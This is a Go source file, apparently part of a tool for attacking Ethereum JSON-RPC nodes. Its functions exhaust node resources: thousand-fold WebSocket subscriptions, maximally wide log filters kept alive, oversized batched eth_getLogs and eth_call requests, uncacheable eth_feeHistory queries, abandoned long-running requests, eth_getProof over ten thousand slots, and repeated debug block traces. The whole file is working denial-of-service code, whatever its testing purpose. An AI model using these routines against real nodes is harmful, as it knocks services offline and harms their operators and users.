// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"github.com/ethereum/go-ethereum/common/hexutil"
	"github.com/gorilla/websocket"
)

// subscribing opens a WebSocket, subscribes a thousand times to the same, and reads what comes of it.
func subscribing(params string) func(context.Context, *client) error {
	return func(ctx context.Context, c *client) error {
		conn, err := c.socket(ctx)
		if err != nil {
			return err
		}
		defer conn.Close()
		sent := make(chan error, 1)
		go func() {
			text := []byte(call("eth_subscribe", params))
			for range 1_000 {
				if err := conn.WriteMessage(websocket.TextMessage, text); err != nil {
					sent <- err
					return
				}
			}
			sent <- nil
		}()
		for {
			if _, _, err = conn.ReadMessage(); err != nil {
				conn.Close()
				<-sent
				return err
			}
		}
	}
}

// widest is a log filter with as many addresses and topics as go-ethereum lets in. It matches nothing, and takes long
// to.
func widest() string {
	var addresses, topics []string
	for i := range 1_000 {
		addresses = append(addresses, fmt.Sprintf(`"0x%040x"`, i+1))
		topics = append(topics, fmt.Sprintf(`"0x%064x"`, i+1))
	}
	topic := "[" + strings.Join(topics, ",") + "]"
	return `{"address":[` + strings.Join(addresses, ",") + `],"topics":[` + topic + "," + topic + "," + topic + "," + topic + `]}`
}

// installWide takes polled filters that are as wide as can be, and asks them now and then so that they stay.
func installWide(ctx context.Context, c *client) error {
	text := call("eth_newFilter", widest())
	for range 100 {
		if err := c.post(ctx, text); err != nil {
			return err
		}
	}
	wait(ctx, time.Second)
	return nil
}

// batchLogs asks a thousand times in one request for more logs than an answer can hold.
func batchLogs(ctx context.Context, c *client) error {
	text := call("eth_getLogs", `{"fromBlock":"0x0","toBlock":"latest","address":"`+c.target.Logger+`"}`)
	return c.batch(ctx, slice(text, 1_000))
}

// keepAnswers has the node hold 22 MiB of answers of a batch that goes on for long.
func keepAnswers(ctx context.Context, c *client) error {
	long := call("eth_call", toVictim+`0x2faf080"},"latest",`+override(megabyte))
	return c.batch(ctx, append(slice(long, 11), slice(blake, 500)...))
}

// feeHistory asks for the rewards of all blocks that it may, by percentiles that nobody has asked for yet.
func feeHistory(ctx context.Context, c *client) error {
	return c.post(ctx, call("eth_feeHistory", c.percentiles()))
}

func (c *client) percentiles() string {
	var percentiles []string
	shift := c.next().Uint64() % 1_000_000
	for i := range 100 {
		percentiles = append(percentiles, fmt.Sprintf("%d.%06d", i, shift))
	}
	return `"0x400","latest",[` + strings.Join(percentiles, ",") + `]`
}

// giveUp asks for long work and does not wait for it.
func giveUp(ctx context.Context, c *client) error {
	text := call("eth_feeHistory", c.percentiles())
	if c.number%2 == 0 {
		text = fill
	}
	ctx, cancel := context.WithTimeout(ctx, 20*time.Millisecond)
	defer cancel()
	_ = c.post(ctx, text)
	return nil
}

// prove asks for proofs of ten thousand slots, which is too many, and of as many as may be.
func prove(ctx context.Context, c *client) error {
	for _, n := range []int{10_000, 1_000} {
		var keys []string
		for i := range n {
			keys = append(keys, fmt.Sprintf(`"0x%x"`, i))
		}
		if err := c.post(ctx, call("eth_getProof", `"`+c.target.Logger+`",[`+strings.Join(keys, ",")+`],"latest"`)); err != nil {
			return err
		}
	}
	return nil
}

// traceBlocks traces the newest block, by its number and by its bytes.
func traceBlocks(ctx context.Context, c *client) error {
	raw, err := c.ask(ctx, call("debug_getRawBlock", `"latest"`))
	if err != nil {
		return err
	}
	var block struct{ Result hexutil.Bytes }
	if err := json.Unmarshal(raw, &block); err != nil {
		return errAnswer
	}
	for _, config := range []string{`{}`, `{"tracer":"callTracer"}`, `{"tracer":"prestateTracer"}`} {
		for _, text := range []string{call("debug_traceBlockByNumber", `"latest",`+config), call("debug_traceBlock", `"`+block.Result.String()+`",`+config)} {
			if err := c.post(ctx, text); err != nil {
				return err
			}
		}
	}
	return nil
}

// explore asks for what a block explorer shows.
func explore(ctx context.Context, c *client) error {
	for _, text := range []string{
		call("ots_getBlockTransactions", `"latest",0,100000`), call("ots_getBlockDetails", `"latest"`),
		call("ots_searchTransactionsBefore", `"`+c.target.Logger+`",0,25`), call("ots_getContractCreator", `"`+c.target.Logger+`"`),
		call("eth_getBlockReceipts", `"latest"`), call("eth_getBlockByNumber", `"latest",true`),
	} {
		if err := c.post(ctx, text); err != nil {
			return err
		}
	}
	return nil
}

func slice(text string, n int) []string {
	texts := make([]string, n)
	for i := range texts {
		texts[i] = text
	}
	return texts
}
